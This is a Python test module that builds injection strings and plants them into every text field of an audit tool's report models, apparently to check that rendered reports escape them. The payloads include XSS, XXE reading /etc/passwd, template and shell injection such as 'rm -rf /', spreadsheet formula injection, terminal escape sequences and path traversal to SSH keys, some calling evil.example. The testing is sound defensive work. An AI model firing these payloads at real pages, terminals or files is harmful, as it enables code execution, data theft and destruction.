r"""Strings that try to act on a page, a terminal, a parser or a reader; and reports that have them in every field for text.

Which fields take text is read off the models, so a new field is attacked as soon as there is one. To try all strings in all
fields takes few reports: field i gets handful i + shift of them, and every shift is rendered once.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import cache
from typing import Any, Literal, get_args, get_origin

from llm_audit.results import Membership, NotRead, Report
from llm_audit.results.core import Model
from llm_audit.results.substitution import Asking
from tests.reports import evidenced, factory, measured

LONG = 5000

SCRIPT = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\x0c>",
    "<script/x>alert(1)</script>",
    "\u02c2script\u02c3alert(1)\u02c2/script\u02c3",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<a href=# onclick=alert(1)>click</a>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
)
BREAKOUTS = (
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=`alert(1)",
    " onload=alert(1) ",
    '"/onclick=alert(1)//',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "</svg></title></desc><script>alert(1)</script>",
    "</textarea></xmp></noembed></plaintext><script>alert(1)</script>",
    "</table></td></p></main></body></html><script>alert(1)</script>",
    "<!-- ",
    "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<plaintext>",
    "</",
    "<",
    "&",
    "\\",
    '"',
)
MUTATION = (
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1)></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><style><img src='</style><img src=x onerror=alert(1)>'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<template><script>alert(1)</script></template>",
    "<x-element><slot name=x></slot></x-element>",
)
RESOURCES = (
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<a href='https://evil.example/'>click</a>",
    "<a href=x ping=//evil.example/>click</a>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<link rel=dns-prefetch href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    '<base href="https://evil.example/">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example/><input name=q><button>send</button></form>",
    "<audio src=//evil.example/x.ogg autoplay>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "https://evil.example/",
    "//evil.example/x.js",
    "file:///etc/passwd",
    "#document-1",
)
STYLES = (
    "<style>@import '//evil.example/x.css';</style>",
    "x;background:url(//evil.example/x.png)",
    "}*{display:none}",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "expression(alert(1))",
    "</style><svg/onload=alert(1)>",
)
XML = (
    "<?xml version='1.0'?><x/>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&e; &undefined; &#0; &#x1b; &#xD800;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;lt;b&amp;gt;",
    "]]>",
    "illegal in XML 1.0: \x01\x08\x0b\x0c\x1f\ufffe\uffff",
    "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/></x>",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% raw %}{{ x }}",
    "{# gone #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} {manifest} {}",
    "%s %n %(x)s %1000000d",
    "$(touch /tmp/owned) `id` ; rm -rf / | cat && x",
)
MARKUP = (
    "[bold red]markup[/] [link=https://evil.example]x[/link] :warning:",
    "[/]",
    "[@click=app.quit]x[/]",
    "\\[bold]",
    "![pixel](https://evil.example/x.png)",
    "[click](javascript:alert(1)) <https://evil.example>",
    "[x]: https://evil.example 'title'",
    "| a | b |\n|---|---|\n| c | d |",
    "```\nout of the fence\n```",
    "# A heading\n\n---\n\n- [x] done",
    "@everyone @octocat #1 GH-1 evil/evil@4f1c9be",
    "<details><summary>Passed</summary>",
    "\n::error file=a.py,line=1::forged",
    "::set-output name=x::y\n::add-mask::x\n::stop-commands::pause",
    "%0A::warning::forged%0D",
    "##[error]forged ##vso[task.setvariable variable=x]y",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    'a,"b\nc";d',
)
TERMINAL = (
    "\x1b[2J\x1b[1;1Howned",
    "\x1b[31mred\x1b[0m",
    "\x1b[8mhidden\x1b[28m",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZWNobyBvd25lZA==\x07",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x1b_app\x1b\\ \x1b^privacy\x1b\\ \x1bc",
    "\x1b[6n\x1b[c\x1b[5i",
    "\x9b31m\x90q\x9c",
    "\x9d52;c;ZWNobw==\x9c",
    "\x7f\x08\x08\x08\x0d forged",
    "\x0e\x0f\x05\x11\x13",
    "".join(map(chr, range(32))),
    "".join(map(chr, range(0x7F, 0xA0))),
    "\x1b",
)
UNICODE = (
    "evil\u202etxt.exe",
    "\u202a\u202b\u202c\u202d\u202e",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "tags \U000e0001\U000e0041\U000e0042\U000e007f",
    "variation \ufe00\ufe0f\U000e0100\U000e01ef",
    "nul\x00nul",
    "line\u2028separator\u2029end",
    "two\nlines\r\nand more\rand\x85more",
    "lone \ud800 surrogates, \udcff as in the name of a file",
    "\udc80\ud83d",
    "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff",
    "\ufffd\ufffc",
    "\u0301\u0301\u0301 first",
    "z" + "\u0301\u0316\u0488" * 300,
    "\u0130\u0131\u017f\u212a\ufb01\u1e9e",
    "\u3000\u00a0\u2003\u00ad\u034f\u180e\u3164",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1e9\U0001f1ea",
    "مرحبا שלום नमस्ते 漢字",
    "\U00012019" * 30,
)
PLACES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/stdout",
    "C:\\con\\nul.txt:stream",
    "%2e%2e%2f\x00.html",
    "-rf --output=x",
    "~root/.ssh/id_rsa",
    " ",
    ".",
)
NUMBERS = ("NaN", "-Infinity", "1e999", "0x1p-1074", "null", "true", "__proto__", "9" * 400)
LENGTHS = ("a" * LONG, "word " * (LONG // 5), "<b>" * (LONG // 3), "\n" * 200, "(" * LONG)

PAYLOADS = (
    *(*SCRIPT, *HANDLERS, *BREAKOUTS, *MUTATION, *RESOURCES, *ADDRESSES, *STYLES, *XML),
    *(*TEMPLATES, *MARKUP, *TERMINAL, *UNICODE, *PLACES, *NUMBERS, *LENGTHS),
)

HANDFULS = tuple(PAYLOADS[start::46] for start in range(46))
"""Four at a time, each from another group."""


def with_control(found: Membership) -> Membership:
    """The same with the scores of a control model beside each text."""
    return found.model_copy(
        update={"texts": tuple(one.model_copy(update={"control": dict(one.scores)}) for one in found.texts)}
    )


ASKING = Asking(surface="chat", rounded=0.0, remarks=0)

WORLDS: dict[str, Callable[[], Report]] = {
    "detect": lambda: factory.report(
        factory.finding(), factory.not_assessable(), factory.unreadable().model_copy(update={"kept": (("x", "x"),)})
    ).model_copy(update={"not_read": (NotRead(kind="x", count=2, on_purpose=False),)}),
    "attribute": lambda: factory.attribution_report(factory.attributed(tokens=20), factory.undecided(tokens=20)),
    "membership, ordered": lambda: factory.membership_report(factory.ordered().model_copy(update={"seed": "5"})),
    "membership, shifted": lambda: factory.membership_report(with_control(factory.shifted(texts=4))),
    "substitution": lambda: factory.substitution_report(
        factory.inconsistent(requests=12).model_copy(update={"reference": "x", "since": "x", "obstacle": "x", "asking": ASKING})
    ),
    "gate": factory.gate_report,
    "corpus": factory.corpus_report,
    "benchmark": lambda: factory.benchmark_report(measured.FOUND),
    "evidence": evidenced.report,
}
"""Small reports, and yet with every field that takes text filled somewhere."""


@cache
def text_fields() -> frozenset[str]:
    """Every place of the report's models that takes any text: "Document.name"; "Manifest.packages, keys"."""
    return frozenset(place for model in models() for place in _places(model))


@cache
def closed_fields() -> frozenset[tuple[type[Model], str]]:
    """Fields of text with a closed set of values: an enumeration, literals, or a pattern."""

    def closed(part: Any) -> bool:
        return get_origin(part) is Literal or (isinstance(part, type) and issubclass(part, str))

    return frozenset(
        (model, name)
        for model in models()
        for name, field in model.model_fields.items()
        if get_origin(field.annotation) is not dict and any(map(closed, _parts(field)))
        if f"{model.__name__}.{name}" not in text_fields()
    )


@cache
def models(root: type[Model] = Report) -> tuple[type[Model], ...]:
    """The report's model and those within it."""
    found = [root]
    for model in found:
        inner = [part for field in model.model_fields.values() for part in _parts(field)]
        found += [part for part in inner if isinstance(part, type) and issubclass(part, Model) and part not in found]
    return tuple(found)


def plant(report: Report, choose: Callable[[str], str | None]) -> Report:
    """The report with the text of each field replaced by `choose(field)`, unless that is None."""
    planted: Report = Report.model_validate(_planted(report, "", choose))
    return planted


def everywhere(payload: str, made: Callable[[], Report] = factory.report) -> Report:
    """A report with one string in every field."""
    return plant(made(), lambda field: payload)


def handfuls(shift: int) -> dict[str, tuple[str, ...]]:
    """Which payloads a field gets: others with every shift, and all of them over all shifts."""
    return {field: HANDFULS[(number + shift) % len(HANDFULS)] for number, field in enumerate(sorted(text_fields()))}


def shifted(shift: int, world: str) -> Report:
    """A report with a handful of payloads in every field, one a line."""
    chosen = handfuls(shift)
    return plant(WORLDS[world](), lambda field: "\n".join(chosen[field]))


@cache
def harmless(world: str) -> Report:
    """The same report with a harmless word in every field, another one in each."""
    words = {field: f"word{number}" for number, field in enumerate(sorted(text_fields()))}
    return plant(WORLDS[world](), words.__getitem__)


def alone(world: str, field: str, payload: str) -> Report:
    """The harmless report with the payload in a single field."""
    return plant(harmless(world), lambda place: payload if place == field else None)


def filled(world: str) -> frozenset[str]:
    """The fields that have text in a report."""
    seen: set[str] = set()
    plant(WORLDS[world](), lambda field: seen.add(field))
    return frozenset(seen)


def _places(model: type[Model]) -> Iterator[str]:
    for name, field in model.model_fields.items():
        parts = [] if any(getattr(rule, "pattern", None) for rule in field.metadata) else list(_parts(field))
        where = f"{model.__name__}.{name}"
        if get_origin(field.annotation) is dict:
            keys, values = get_args(field.annotation)
            yield from (place for part, place in ((keys, f"{where}, keys"), (values, where)) if part is str)
        elif str in parts:
            yield where


def _parts(field: Any) -> Iterator[Any]:
    """The simple types that an annotation is made of."""
    annotation = getattr(field, "annotation", field)
    inner = get_args(annotation) if get_origin(annotation) is not Literal else ()
    yield annotation
    for part in inner:
        yield from _parts(part)


def _planted(value: Any, where: str, choose: Callable[[str], str | None]) -> Any:
    if isinstance(value, Model):
        name = type(value).__name__
        return {field: _planted(getattr(value, field), f"{name}.{field}", choose) for field in type(value).model_fields}
    if isinstance(value, dict):
        return {_planted(key, f"{where}, keys", choose): _planted(each, where, choose) for key, each in value.items()}
    if isinstance(value, tuple):
        return [_planted(each, where, choose) for each in value]
    if not isinstance(value, str) or where not in text_fields() or (payload := choose(where)) is None:
        return value
    # No shorter than before, so that the passages still lie within the text.
    return payload.ljust(len(value), "x") if where == "Document.text" else payload
